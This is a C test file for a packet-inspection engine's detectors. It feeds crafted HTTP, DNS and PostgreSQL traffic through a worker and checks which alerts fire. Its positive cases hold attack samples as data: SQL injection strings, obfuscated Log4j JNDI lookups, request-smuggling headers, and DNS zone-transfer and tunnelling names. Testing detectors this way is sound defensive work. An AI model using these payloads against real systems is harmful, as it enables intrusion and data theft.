/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * test_alerts.c - signatures in the data path: requests, queries and raw
 * streams fed through a dpi worker the way the dataplane feeds it, and the
 * alert events that come out. Every built-in detector written in C has a
 * positive and a negative case here (the rule-text sets are covered, sid by
 * sid, by test_builtin_rules.c); flood control, set selection, custom rules
 * with addresses and raw-stream rules split across segments too.
 */
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "bh_test.h"
#include "bh_wire.h"
#include "bulkhead/dpi.h"

#define MAXA 64

struct cap {
	int n;
	uint32_t sid[MAXA];
	char set[MAXA][24];
	char field[MAXA][24];
	char ex[MAXA][160];
	int tx_type[MAXA];
	unsigned records;
};

static void on_record(void *ctx, void *cookie, struct bh_event *ev)
{
	struct cap *c = ctx;

	(void)cookie;
	if (ev->type != BH_EV_ALERT) {
		c->records++;
		return;
	}
	if (c->n < MAXA) {
		const struct bh_alert *a = &ev->alert;

		c->sid[c->n] = a->sid;
		snprintf(c->set[c->n], sizeof(c->set[0]), "%s", a->set);
		snprintf(c->field[c->n], sizeof(c->field[0]), "%s", a->field ? a->field : "");
		snprintf(c->ex[c->n], sizeof(c->ex[0]), "%.*s", (int)a->excerpt.len,
			 a->excerpt.p ? a->excerpt.p : "");
		c->tx_type[c->n] = a->tx_type;
		/* the message and category of every alert are filled */
		CHECK(a->msg && a->msg[0]);
		CHECK(a->category && a->category[0]);
		CHECK(a->severity >= 1);
	}
	c->n++;
}

static int count(const struct cap *c, uint32_t sid)
{
	int k = 0;

	for (int i = 0; i < c->n && i < MAXA; i++)
		k += c->sid[i] == sid;
	return k;
}

static int index_of(const struct cap *c, uint32_t sid)
{
	for (int i = 0; i < c->n && i < MAXA; i++)
		if (c->sid[i] == sid)
			return i;
	return -1;
}

static void on_error(void *ctx, const char *msg)
{
	char *last = ctx;

	if (last)
		snprintf(last, 512, "%s", msg);
	else
		fprintf(stderr, "sigs: %s\n", msg);
}

static struct dpi_sigs *load(unsigned sets, const char *rule_file)
{
	struct dpi_sigs_config c = {.sets = sets, .rule_files = &rule_file,
				    .n_rule_files = rule_file ? 1 : 0, .error = on_error};
	struct dpi_sigs *s = NULL;

	CHECK_EQ(dpi_sigs_new(&c, &s), 0);
	return s;
}

/* A temporary rule file with @text; the caller unlinks it. */
static void rule_file(char path[64], const char *text)
{
	int fd;

	snprintf(path, 64, "/tmp/bh-test-alerts.XXXXXX");
	fd = mkstemp(path);
	CHECK(fd >= 0);
	CHECK_EQ(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
}

struct peer {
	uint8_t client[16], server[16];
	uint16_t cport, sport;
	uint8_t proto;
};

static void v4(uint8_t a[16], uint8_t x, uint8_t y, uint8_t z, uint8_t t)
{
	memset(a, 0, 16);
	a[10] = a[11] = 0xff;
	a[12] = x;
	a[13] = y;
	a[14] = z;
	a[15] = t;
}

static struct peer web(void)
{
	struct peer p = {.cport = 40000, .sport = 80, .proto = IPPROTO_TCP};

	v4(p.client, 10, 0, 0, 1);
	v4(p.server, 10, 0, 0, 2);
	return p;
}

/* Feeds @n segments of direction @dir over one new flow, then ends it;
 * every segment is a guard-page copy. Returns the alerts. */
static struct cap flow(const struct dpi_sigs *s, const struct peer *p, const char *const *seg,
		       const unsigned *dir, unsigned n)
{
	struct cap c = {0};
	struct dpi_ops ops = {.record = on_record, .ctx = &c};
	struct dpi_flow_meta m = {.ipproto = p->proto, .client_port = p->cport,
				  .server_port = p->sport, .client_addr = p->client,
				  .server_addr = p->server};
	struct dpi_worker *w = NULL;
	struct dpi_flow *f = NULL;

	CHECK_EQ(dpi_worker_new(&ops, &w), 0);
	if (s)
		CHECK_EQ(dpi_worker_set_sigs(w, s), 0);
	for (unsigned i = 0; i < n; i++) {
		size_t len = strlen(seg[i]);
		uint8_t *g = guard_dup(seg[i], len);

		if (p->proto == IPPROTO_UDP)
			dpi_datagram(w, &f, &c, &m, dir ? dir[i] : 0, g, (uint32_t)len);
		else
			dpi_stream(w, &f, &c, &m, dir ? dir[i] : 0, g, (uint32_t)len, 0);
		guard_free(g, len);
	}
	dpi_flow_end(w, &f, &c);
	dpi_worker_free(w);
	return c;
}

static struct cap http(const struct dpi_sigs *s, const char *req)
{
	struct peer p = web();

	return flow(s, &p, &req, NULL, 1);
}

/* ---------------------------------------------------------------- HTTP C detectors */

struct pn {
	uint32_t sid;
	const char *pos, *neg;
};

static const struct pn http_cases[] = {
	/* sqli: a query parameter */
	{8801001, "GET /items?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: a\r\n\r\n",
	 "GET /items?q=O%27Brien%27s+select+union+members HTTP/1.1\r\nHost: a\r\n\r\n"},
	{8801001, "GET /items?id=1+UNION/**/SELECT+username,password+FROM+users-- HTTP/1.1\r\nHost: a\r\n\r\n",
	 "GET /search?q=union+select+committee+2024 HTTP/1.1\r\nHost: a\r\n\r\n"},
	/* a form body value */
	{8801002,
	 "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	 "Content-Length: 27\r\n\r\nuser=admin%27--&pw=whatever",
	 "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	 "Content-Length: 27\r\n\r\nuser=Mary+O%27Neil&pw=x1234"},
	/* a path segment */
	{8801003, "GET /products/1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\r\nHost: a\r\n\r\n",
	 "GET /products/summer-sale-2024/O%27Reilly HTTP/1.1\r\nHost: a\r\n\r\n"},
	/* a cookie value */
	{8801004, "GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; id=1%27%20OR%20%271%27%3D%271\r\n\r\n",
	 "GET / HTTP/1.1\r\nHost: a\r\nCookie: theme=dark; lang=en-US; sid=YWJjZGVmZ2hpams=\r\n\r\n"},
	/* Log4j lookups that only resolving them shows (the plain "${jndi:" is a
	 * rule: 8805001..) */
	{8805900, "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${${lower:j}ndi:${lower:l}dap://x.test/a}\r\n\r\n",
	 "GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${lower:j}ndi is ${env:HOME}\r\n\r\n"},
	{8805900, "GET /?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Armi%3A%2F%2Fx%2Fa%7D HTTP/1.1\r\nHost: a\r\n\r\n",
	 "GET /?q=%24%7Bitem.price%7D HTTP/1.1\r\nHost: a\r\n\r\n"},
	/* http-anomaly */
	{8808001,
	 "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	 "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
	{8808002, "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5x\r\n\r\nhello",
	 "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello"},
	{8808003, "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
	 "POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nX-Length: 5\r\n\r\nhello"},
	{8808004, "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n",
	 "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"},
	{8808005, "POST /a HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	 "POST /a HTTP/1.0\r\nHost: a\r\nContent-Length: 0\r\n\r\n"},
	{8808007, "GET /a HTTP/1.1\r\nHost: a\r\nX-A: b\r\n c\r\n\r\n",
	 "GET /a HTTP/1.1\r\nHost: a\r\nX-A: b c\r\n\r\n"},
	{8808008, "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n",
	 "POST /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"},
	{8808009, "GET /a HTTP/1.1\r\nHost: a.example\r\nHost: b.example\r\n\r\n",
	 "GET /a HTTP/1.1\r\nHost: a.example\r\nX-Forwarded-Host: b.example\r\n\r\n"},
	{8808010, "GET /a HTTP/1.1\r\nHost: a\r\nBad Header: x\r\n\r\n",
	 "GET /a HTTP/1.1\r\nHost: a\r\nBad-Header: x\r\n\r\n"},
};

static void test_http_detectors(void)
{
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);

	for (size_t i = 0; i < sizeof(http_cases) / sizeof(http_cases[0]); i++) {
		const struct pn *t = &http_cases[i];
		struct cap pos = http(s, t->pos), neg = http(s, t->neg);

		if (count(&pos, t->sid) != 1 || count(&neg, t->sid) != 0)
			fprintf(stderr, "case %zu sid %u: positive %d, negative %d\n", i, t->sid,
				count(&pos, t->sid), count(&neg, t->sid));
		CHECK_EQ(count(&pos, t->sid), 1);
		CHECK_EQ(count(&neg, t->sid), 0);
		/* the alert carries the request */
		if (index_of(&pos, t->sid) >= 0)
			CHECK_EQ(pos.tx_type[index_of(&pos, t->sid)], BH_EV_HTTP);
	}
	dpi_sigs_free(s);
}

/* More than 100 header fields: the parser's limit, a signature. */
static void test_header_limit(void)
{
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
	char *req = malloc(8192), *p = req;
	struct cap c;

	p += snprintf(p, 64, "GET /a HTTP/1.1\r\nHost: a\r\n");
	for (int i = 0; i < 150; i++)
		p += snprintf(p, 32, "X-H%d: v\r\n", i);
	snprintf(p, 8, "\r\n");
	c = http(s, req);
	CHECK_EQ(count(&c, 8808006), 1);
	c = http(s, "GET /a HTTP/1.1\r\nHost: a\r\nX-H1: v\r\nX-H2: v\r\n\r\n");
	CHECK_EQ(count(&c, 8808006), 0);
	free(req);
	dpi_sigs_free(s);
}

/* The excerpt is the injected fragment; the field names the buffer. */
static void test_excerpt_and_field(void)
{
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
	struct cap c = http(s, "GET /items?id=7%27%20OR%201%3D1--%20 HTTP/1.1\r\nHost: a\r\n\r\n");
	int i = index_of(&c, 8801001);

	CHECK(i >= 0);
	if (i >= 0) {
		CHECK(strstr(c.ex[i], "OR 1=1") != NULL);
		CHECK(strcmp(c.field[i], "http.param") == 0);
		CHECK(strcmp(c.set[i], "sqli") == 0);
	}
	dpi_sigs_free(s);
}

/* ---------------------------------------------------------------- DNS */

/* A DNS message: header, one question for @name (dotted) of @qtype. */
static size_t dns_msg(uint8_t *out, uint16_t id, bool qr, const char *name, uint16_t qtype)
{
	size_t n = 0;
	const char *p = name;

	out[n++] = (uint8_t)(id >> 8);
	out[n++] = (uint8_t)id;
	out[n++] = qr ? 0x81 : 0x01;
	out[n++] = qr ? 0x80 : 0x00;
	out[n++] = 0;
	out[n++] = 1;
	memset(out + n, 0, 6);
	n += 6;
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);

		out[n++] = (uint8_t)l;
		memcpy(out + n, p, l);
		n += l;
		p += l + (dot ? 1 : 0);
	}
	out[n++] = 0;
	out[n++] = (uint8_t)(qtype >> 8);
	out[n++] = (uint8_t)qtype;
	out[n++] = 0;
	out[n++] = 1;
	return n;
}

/* @msg after the query @q (NULL: @msg alone), which detection needs to
 * see first: the flow's first datagram must look like a query. */
static struct cap dns_after(const struct dpi_sigs *s, const uint8_t *q, size_t qlen,
			    const uint8_t *msg, size_t len)
{
	struct peer p = {.cport = 40001, .sport = 53, .proto = IPPROTO_UDP};
	struct cap c = {0};
	struct dpi_ops ops = {.record = on_record, .ctx = &c};
	struct dpi_flow_meta m = {.ipproto = IPPROTO_UDP, .client_port = p.cport,
				  .server_port = p.sport};
	struct dpi_worker *w = NULL;
	struct dpi_flow *f = NULL;
	uint8_t *g = guard_dup(msg, len);

	v4(p.client, 10, 0, 0, 1);
	v4(p.server, 10, 0, 0, 53);
	m.client_addr = p.client;
	m.server_addr = p.server;
	CHECK_EQ(dpi_worker_new(&ops, &w), 0);
	CHECK_EQ(dpi_worker_set_sigs(w, s), 0);
	if (q) {
		uint8_t *gq = guard_dup(q, qlen);

		dpi_datagram(w, &f, &c, &m, 0, gq, (uint32_t)qlen);
		guard_free(gq, qlen);
	}
	dpi_datagram(w, &f, &c, &m, q ? 1 : 0, g, (uint32_t)len);
	dpi_flow_end(w, &f, &c);
	dpi_worker_free(w);
	guard_free(g, len);
	return c;
}

static struct cap dns(const struct dpi_sigs *s, const uint8_t *msg, size_t len)
{
	return dns_after(s, NULL, 0, msg, len);
}

static void test_dns_anomaly(void)
{
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
	uint8_t m[512], q[512];
	size_t n, qn = dns_msg(q, 3, false, "a.example", 1);
	struct cap c;

	/* zone transfer: AXFR and IXFR, not an A lookup of the zone */
	n = dns_msg(m, 1, false, "shop.internal", 252);
	c = dns(s, m, n);
	CHECK_EQ(count(&c, 8810002), 1);
	n = dns_msg(m, 1, false, "shop.internal", 251);
	c = dns(s, m, n);
	CHECK_EQ(count(&c, 8810002), 1);
	n = dns_msg(m, 1, false, "shop.internal", 1);
	c = dns(s, m, n);
	CHECK_EQ(count(&c, 8810002), 0);
	CHECK_EQ(c.n, 0);
	/* ANY */
	n = dns_msg(m, 2, false, "shop.internal", 255);
	c = dns(s, m, n);
	CHECK_EQ(count(&c, 8810003), 1);
	n = dns_msg(m, 2, false, "shop.internal", 28);
	c = dns(s, m, n);
	CHECK_EQ(count(&c, 8810003), 0);
	/* an answer whose name is a compression pointer to itself */
	n = dns_msg(m, 3, true, "a.example", 1);
	m[7] = 1; /* ancount */
	{
		uint8_t rr[] = {0xc0, 0, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 0, 0, 9};

		rr[1] = (uint8_t)n;
		memcpy(m + n, rr, sizeof(rr));
		n += sizeof(rr);
	}
	c = dns_after(s, q, qn, m, n);
	CHECK_EQ(count(&c, 8810001), 1);
	/* a valid pointer (answer name -> question name) is fine */
	n = dns_msg(m, 3, true, "a.example", 1);
	m[7] = 1; /* ancount */
	{
		static const uint8_t rr[] = {0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 0, 0, 9};

		memcpy(m + n, rr, sizeof(rr));
		n += sizeof(rr);
	}
	c = dns_after(s, q, qn, m, n);
	CHECK_EQ(count(&c, 8810001), 0);
	CHECK_EQ(count(&c, 8810004), 0);
	/* malformed: a response promising two answers, carrying one */
	n = dns_msg(m, 4, true, "a.example", 1);
	m[7] = 2;
	{
		static const uint8_t rr[] = {0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 10, 0, 0, 9};

		memcpy(m + n, rr, sizeof(rr));
		n += sizeof(rr);
	}
	c = dns_after(s, q, qn, m, n);
	CHECK_EQ(count(&c, 8810004), 1);
	dpi_sigs_free(s);
}

/* The tunnel heuristic's signatures, one per reason, and names that look
 * busy but are not tunnels. */
static void test_dns_tunnel(void)
{
	static const struct {
		uint32_t sid;
		const char *name;
		uint16_t qtype;
	} pos[] = {
		{8809003, "mzxw6ytboi2dsnrtgu3tsnbsgiztmojqgy4tqmrrg4zdgnbvgy.t.tunnel.test", 16},
		{8809003, "5fb275da215f69209755e4662eb4a3f3c5ed5df5ca5eaadb84a6cf.tunnel.test", 10},
		{8809001, "6f8c1d0e9b2a4c7d3e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a7b8c9d.x.tunnel.test", 1},
		{8809002, "dnscat.7a3f01e2b4c5d6e7f8091a2b.3c4d5e6f708192a3b4c5d6e7.tunnel.test", 1},
		{8809004, "a1b2c3d4e5.f6a7b8c9d0.e1f2a3b4c5.d6e7f8a9b0.c1d2e3f4a5.b6c7d8e9f0.a1b2c3d4e5."
			  "f6a7b8c9d0.e1f2a3b4c5.d6e7f8a9b0.tunnel.test", 1},
	}, neg[] = {
		{0, "www.example.com", 1},
		{0, "ec2-54-12-3-4.compute-1.amazonaws.com", 1},
		{0, "_ldap._tcp.dc._msdcs.corp.example.com", 33},
		{0, "my-service.my-namespace.svc.cluster.local", 1},
		{0, "selector1._domainkey.example.com", 16},
		{0, "thisisaveryveryverylongbutperfectlyreadablesubdomainnameforamarketingcampaign."
		    "and.another.long.readable.part.of.the.name.example.com", 1},
	};
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
	uint8_t m[512];

	for (size_t i = 0; i < sizeof(pos) / sizeof(pos[0]); i++) {
		struct cap c = dns(s, m, dns_msg(m, 9, false, pos[i].name, pos[i].qtype));

		if (count(&c, pos[i].sid) != 1)
			fprintf(stderr, "%s: want %u, got %d alerts (first %u)\n", pos[i].name,
				pos[i].sid, c.n, c.n ? c.sid[0] : 0);
		CHECK_EQ(count(&c, pos[i].sid), 1);
		if (index_of(&c, pos[i].sid) >= 0)
			CHECK(strcmp(c.set[index_of(&c, pos[i].sid)], "dns-tunnel") == 0);
	}
	for (size_t i = 0; i < sizeof(neg) / sizeof(neg[0]); i++) {
		struct cap c = dns(s, m, dns_msg(m, 9, false, neg[i].name, neg[i].qtype));

		CHECK_EQ(c.n, 0);
	}
	dpi_sigs_free(s);
}

static struct cap pg(const struct dpi_sigs *s, const char *sql)
{
	struct peer p = web();
	uint8_t buf[1024];
	size_t n = bh_pg_query(buf, sql);
	struct cap c = {0};
	struct dpi_ops ops = {.record = on_record, .ctx = &c};
	struct dpi_flow_meta m = {.ipproto = IPPROTO_TCP, .client_port = 41000, .server_port = 5432,
				  .client_addr = p.client, .server_addr = p.server};
	struct dpi_worker *w = NULL;
	struct dpi_flow *f = NULL;
	uint8_t *g = guard_dup(buf, n);

	CHECK_EQ(dpi_worker_new(&ops, &w), 0);
	CHECK_EQ(dpi_worker_set_sigs(w, s), 0);
	dpi_stream(w, &f, &c, &m, 0, g, (uint32_t)n, 0);
	dpi_flow_end(w, &f, &c);
	dpi_worker_free(w);
	guard_free(g, n);
	return c;
}

static void test_sql_statement(void)
{
	struct dpi_sigs *s = load(DPI_SETS_BUILTIN, NULL);
	struct cap c;

	c = pg(s, "SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = 'x'");
	CHECK_EQ(c.records, 1);
	CHECK_EQ(count(&c, 8801005), 1);
	if (index_of(&c, 8801005) >= 0) {
		CHECK(strcmp(c.field[index_of(&c, 8801005)], "sql.query") == 0);
		CHECK_EQ(c.tx_type[index_of(&c, 8801005)], BH_EV_SQL);
	}
	c = pg(s, "SELECT id FROM items WHERE id = 1 UNION SELECT usename, passwd FROM pg_shadow");
	CHECK_EQ(count(&c, 8801005), 1);
	c = pg(s, "SELECT * FROM users WHERE name = 'O''Brien' AND active = true ORDER BY id LIMIT 10");
	CHECK_EQ(c.records, 1);
	CHECK_EQ(c.n, 0);
	c = pg(s, "SELECT * FROM orders WHERE 1=1 AND customer_id = 42");
	CHECK_EQ(c.n, 0);
	dpi_sigs_free(s);
}

/* ---------------------------------------------------------------- engine */

static void test_sets_and_flood(void)
{
	static const char *attack = "GET /items?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: a\r\n\r\n";
	struct dpi_sigs *s = load(1u << DPI_SET_HTTP_ANOMALY, NULL);
	struct cap c = http(s, attack);
	const char *segs[20];
	struct peer p = web();
	char err[128];
	unsigned mask;

	CHECK_EQ(c.n, 0); /* sqli not loaded */
	dpi_sigs_free(s);

	/* twenty attacks on one keep-alive connection: one alert */
	s = load(DPI_SETS_BUILTIN, NULL);
	for (int i = 0; i < 20; i++)
		segs[i] = attack;
	c = flow(s, &p, segs, NULL, 20);
	CHECK_EQ(count(&c, 8801001), 1);
	CHECK_EQ(c.records, 20);
	dpi_sigs_free(s);

	CHECK_EQ(dpi_set_parse("sqli,dns-tunnel", &mask, err, sizeof(err)), 0);
	CHECK_EQ(mask, (1u << DPI_SET_SQLI) | (1u << DPI_SET_DNS_TUNNEL));
	CHECK_EQ(dpi_set_parse("sqli,bogus", &mask, err, sizeof(err)), -EINVAL);
	CHECK(strstr(err, "'bogus'") != NULL);
	CHECK_EQ(dpi_set_parse("all", &mask, err, sizeof(err)), 0);
	CHECK_EQ(mask, DPI_SETS_BUILTIN);
	for (unsigned i = 0; i < DPI_SET__MAX; i++)
		CHECK(dpi_set_name(i) != NULL);
}

static void test_custom_rules(void)
{
	char path[64];
	struct dpi_sigs *s;
	struct peer p = web();
	struct cap c;
	const char *split[] = {"GET /x HTTP/1.1\r\nHost: a\r\nX-Tok: SECRET-", "TOKEN-42\r\n\r\n"};
	const char *raw[] = {"\x01\x02 hello ev", "il-bytes \x03"};
	unsigned dirs[] = {0, 0};

	rule_file(path,
		  "alert http 10.0.0.0/8 any -> any 80 (msg:\"admin from inside\"; flow:to_server; "
		  "http.uri; content:\"/admin\"; startswith; classtype:policy-violation; "
		  "sid:1000001; rev:3;)\n"
		  "alert tcp any any -> any any (msg:\"token on the wire\"; "
		  "content:\"SECRET-TOKEN\"; classtype:credential-theft; sid:1000002;)\n"
		  "alert tcp any any -> any 9999 (msg:\"evil raw\"; content:\"evil-bytes\"; "
		  "classtype:misc-attack; sid:1000003;)\n");
	s = load(0, path);
	CHECK_EQ(dpi_sigs_rules(s), 3);
	c = http(s, "GET /admin/users HTTP/1.1\r\nHost: a\r\n\r\n");
	CHECK_EQ(count(&c, 1000001), 1);
	v4(p.client, 192, 168, 1, 1);
	c = flow(s, &p, (const char *const[]){"GET /admin/users HTTP/1.1\r\nHost: a\r\n\r\n"}, NULL,
		 1);
	CHECK_EQ(count(&c, 1000001), 0);
	/* a raw-stream literal split across two segments */
	p = web();
	c = flow(s, &p, split, dirs, 2);
	CHECK_EQ(count(&c, 1000002), 1);
	if (index_of(&c, 1000002) >= 0) {
		CHECK(strcmp(c.ex[index_of(&c, 1000002)], "SECRET-TOKEN") == 0);
		CHECK(strcmp(c.set[index_of(&c, 1000002)], "custom") == 0);
	}
	/* an unknown protocol, split too, on its port only */
	p.sport = 9999;
	c = flow(s, &p, raw, dirs, 2);
	CHECK_EQ(count(&c, 1000003), 1);
	p.sport = 9998;
	c = flow(s, &p, raw, dirs, 2);
	CHECK_EQ(count(&c, 1000003), 0);
	dpi_sigs_free(s);
	unlink(path);

	/* a rule file with an error: nothing loads, the error names the place */
	{
		char last[512] = "";
		const char *f = path;
		struct dpi_sigs_config cfg = {.sets = DPI_SETS_BUILTIN, .rule_files = &f,
					      .n_rule_files = 1, .error = on_error,
					      .error_ctx = last};

		rule_file(path, "# comment\nalert http any any -> any any (msg:\"x\"; "
				"flowbits:set,x; sid:5;)\n");
		s = NULL;
		CHECK_EQ(dpi_sigs_new(&cfg, &s), -EINVAL);
		CHECK(s == NULL);
		CHECK(strstr(last, path) != NULL);
		CHECK(strstr(last, ":2:") != NULL);
		CHECK(strstr(last, "flowbits") != NULL);
		unlink(path);
		/* a sid clash with a built-in one is an error too */
		rule_file(path, "alert http any any -> any any (msg:\"x\"; sid:8802001;)\n");
		CHECK_EQ(dpi_sigs_new(&cfg, &s), -EINVAL);
		CHECK(strstr(last, "8802001") != NULL);
		unlink(path);
	}
}

int main(void)
{
	RUN(test_http_detectors);
	RUN(test_header_limit);
	RUN(test_excerpt_and_field);
	RUN(test_dns_anomaly);
	RUN(test_dns_tunnel);
	RUN(test_sql_statement);
	RUN(test_sets_and_flood);
	RUN(test_custom_rules);
	return bh_test_summary();
}
